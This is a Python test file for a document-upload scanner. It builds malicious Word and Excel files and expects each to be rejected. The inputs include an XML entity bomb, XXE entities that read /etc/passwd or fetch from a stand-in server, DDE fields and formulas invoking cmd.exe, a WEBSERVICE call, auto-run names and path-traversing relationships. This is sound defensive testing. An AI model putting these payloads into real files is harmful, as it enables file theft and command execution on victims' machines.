"""Bad Word documents and workbooks: entities, macros, and what loads or asks by itself."""

from __future__ import annotations

from portal.privacy.files.limits import DEEPEST_XML, MOST_CELLS
from portal.privacy.files.report import Why
from tests.privacy.files.making import changed, related, replaced, unzipped, word, workbook

DOCUMENT = "word/document.xml"
BOOK = "xl/workbook.xml"
SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = b"""<!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>"""
TYPES = "[Content_Types].xml"


def declared(declaration: bytes, part: str = DOCUMENT) -> bytes:
    """A Word document with a declaration in front of a part's first element."""
    data = unzipped(word())[part]
    start = data.index(b"?>") + 2
    return changed(word(), {part: data[:start] + declaration + data[start:]})


def in_utf16() -> bytes:
    data = unzipped(word())[DOCUMENT].split(b"?>", 1)[1].decode()
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w SYSTEM "file:///x">{data}'
    return changed(word(), {DOCUMENT: text.encode("utf-16")})


def deep() -> bytes:
    nested = b"<w:p>" * (DEEPEST_XML + 1) + b"</w:p>" * (DEEPEST_XML + 1)
    return replaced(word(), DOCUMENT, b"<w:body>", b"<w:body>" + nested)


def field(code: bytes) -> bytes:
    """A Word document with a field whose code is cut into two runs."""
    begin = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
    middle = b"</w:instrText></w:r><w:r><w:instrText>"
    run = begin + code[:3] + middle + code[3:] + b"</w:instrText></w:r></w:p>"
    return replaced(word(), DOCUMENT, b"<w:body>", b"<w:body>" + run)


def formula(code: bytes) -> bytes:
    cell = b'<c r="C1"><f>' + code + b"</f><v>1</v></c></row>"
    return replaced(workbook(), SHEET, b"</row>", cell)


def named(name: bytes, code: bytes) -> bytes:
    defined = b'<definedNames><definedName name="' + name + b'">' + code
    return replaced(
        workbook(), BOOK, b"<definedNames/>", defined + b"</definedName></definedNames>"
    )


def linked(kind: bytes) -> bytes:
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    link = b'<externalLink xmlns="' + main + b'"><' + kind + b"/></externalLink>"
    return changed(workbook(), {"xl/externalLinks/externalLink1.xml": link})


def typed(package: bytes, old: bytes, new: bytes) -> bytes:
    return replaced(package, TYPES, old, new)


def merged_everywhere() -> bytes:
    merge = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return replaced(workbook(), SHEET, b"</sheetData>", merge)


XLM = {"xl/macrosheets/sheet1.xml": b"<a/>"}

FILES = (
    ("a billion laughs", "a.docx", lambda: declared(LAUGHS), Why.DECLARATIONS),
    (
        "an entity that reads a file",
        "a.docx",
        lambda: declared(b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        Why.DECLARATIONS,
    ),
    (
        "an entity that asks a server",
        "a.docx",
        lambda: declared(b'<!DOCTYPE w [<!ENTITY % x SYSTEM "http://a.example/x"> %x;]>'),
        Why.DECLARATIONS,
    ),
    (
        "a declaration in the relationships",
        "a.docx",
        lambda: declared(b'<!DOCTYPE r SYSTEM "x">', "word/_rels/document.xml.rels"),
        Why.DECLARATIONS,
    ),
    ("a declaration in UTF-16", "a.docx", in_utf16, Why.DECLARATIONS),
    (
        "a declaration in shared strings",
        "a.xlsx",
        lambda: changed(workbook(), {"xl/sharedStrings.xml": LAUGHS + b"<sst/>"}),
        Why.DECLARATIONS,
    ),
    (
        "a style sheet of another server",
        "a.docx",
        lambda: declared(b'<?xml-stylesheet href="http://a.example/x.xsl"?>'),
        Why.EXTERNAL,
    ),
    ("elements in elements in elements", "a.docx", deep, Why.BOMB),
    (
        "XML that does not end",
        "a.docx",
        lambda: replaced(word(), DOCUMENT, b"</w:document>", b""),
        Why.DAMAGED,
    ),
    ("no body at all", "a.docx", lambda: changed(word(), {DOCUMENT: None}), Why.DAMAGED),
    (
        "macros",
        "a.docm",
        lambda: changed(word(), {"word/vbaProject.bin": b"x"}),
        Why.MACROS,
    ),
    (
        "macros as a plain document",
        "a.docx",
        lambda: changed(word(), {"word/vbaProject.bin": b"x"}),
        Why.MACROS,
    ),
    (
        "a document that says it may have macros",
        "a.docx",
        lambda: typed(
            word(),
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        Why.MACROS,
    ),
    (
        "active controls",
        "a.docx",
        lambda: changed(word(), {"word/activeX/activeX1.bin": b"x"}),
        Why.MACROS,
    ),
    (
        "a script as a member",
        "a.docx",
        lambda: changed(word(), {"word/media/a.js": b"x"}),
        Why.MACROS,
    ),
    (
        "a template from a server",
        "a.docx",
        lambda: related(word(), "word/settings.xml", "attachedTemplate", "http://a.example/t"),
        Why.EXTERNAL,
    ),
    (
        "a template from a share",
        "a.docx",
        lambda: related(word(), "word/settings.xml", "attachedTemplate", "file://h/t.dotm"),
        Why.EXTERNAL,
    ),
    (
        "a picture from a server",
        "a.docx",
        lambda: related(word(), DOCUMENT, "image", "http://a.example/x.png"),
        Why.EXTERNAL,
    ),
    (
        "an object from a server",
        "a.docx",
        lambda: related(word(), DOCUMENT, "oleObject", "http://a.example/x"),
        Why.EXTERNAL,
    ),
    (
        "a part of another document",
        "a.docx",
        lambda: related(word(), DOCUMENT, "subDocument", "file:///x.docx"),
        Why.EXTERNAL,
    ),
    (
        "a frame from a server",
        "a.docx",
        lambda: related(word(), "word/webSettings.xml", "frame", "http://a.example"),
        Why.EXTERNAL,
    ),
    (
        "a relationship that leads out",
        "a.docx",
        lambda: related(word(), DOCUMENT, "image", "../../../etc/passwd", outside=False),
        Why.HOSTILE_NAMES,
    ),
    ("a field that asks a program", "a.docx", lambda: field(b"DDEAUTO c:\\cmd.exe"), Why.DDE),
    ("a field that asks when told", "a.docx", lambda: field(b"DDE excel x"), Why.DDE),
    ("a field that loads a picture", "a.docx", lambda: field(b"INCLUDEPICTURE x"), Why.EXTERNAL),
    ("a field that loads a text", "a.docx", lambda: field(b"INCLUDETEXT x"), Why.EXTERNAL),
    (
        "a workbook with macros",
        "a.xlsm",
        lambda: changed(workbook(), {"xl/vbaProject.bin": b"x"}),
        Why.MACROS,
    ),
    ("macros of Excel 4", "a.xlsx", lambda: changed(workbook(), XLM), Why.MACROS),
    (
        "a binary workbook",
        "a.xlsb",
        lambda: typed(
            workbook(),
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.binary.macroEnabled.main",
        ),
        Why.MACROS,
    ),
    ("a name that runs", "a.xlsx", lambda: named(b"_xlnm.Auto_Open", b"A1"), Why.MACROS),
    ("a link to a program", "a.xlsx", lambda: linked(b"ddeLink"), Why.DDE),
    ("a link to an object", "a.xlsx", lambda: linked(b"oleLink"), Why.DDE),
    ("a formula for a program", "a.xlsx", lambda: formula(b"cmd|'/C calc'!A0"), Why.DDE),
    (
        "a formula for a server",
        "a.xlsx",
        lambda: formula(b"WEBSERVICE(&quot;http://a.example&quot;)"),
        Why.DDE,
    ),
    (
        "a name for a program",
        "a.xlsx",
        lambda: named(b"x", b"cmd|'/C calc'!A0"),
        Why.DDE,
    ),
    (
        "a picture of a server in a workbook",
        "a.xlsx",
        lambda: related(workbook(), "xl/drawings/drawing1.xml", "image", "http://a.example/x"),
        Why.EXTERNAL,
    ),
    (
        "a workbook with too many cells",
        "a.xlsx",
        lambda: workbook([[1] * 10] * (MOST_CELLS // 10 + 1)),
        Why.TOO_LONG,
    ),
    (
        "slides",
        "a.docx",
        lambda: typed(word(), b"wordprocessingml.document.main", b"presentationml.slideshow.main"),
        Why.UNKNOWN_KIND,
    ),
)
